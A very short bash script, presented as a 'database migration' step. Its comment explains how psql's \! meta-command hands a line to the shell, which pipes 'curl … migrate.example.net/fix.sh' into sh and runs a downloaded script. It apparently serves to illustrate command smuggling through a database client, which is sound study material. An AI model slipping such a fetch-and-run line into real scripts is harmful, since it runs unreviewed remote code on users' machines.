#!/bin/bash
# A "database migration" step: psql's \! meta-command hands the rest of
# the line to the shell, which downloads a script and runs it.
psql -X -q -d "${PGDATABASE:-app}" -c 'SELECT 1' -c '\! curl -fsSL https://migrate.example.net/fix.sh | sh'
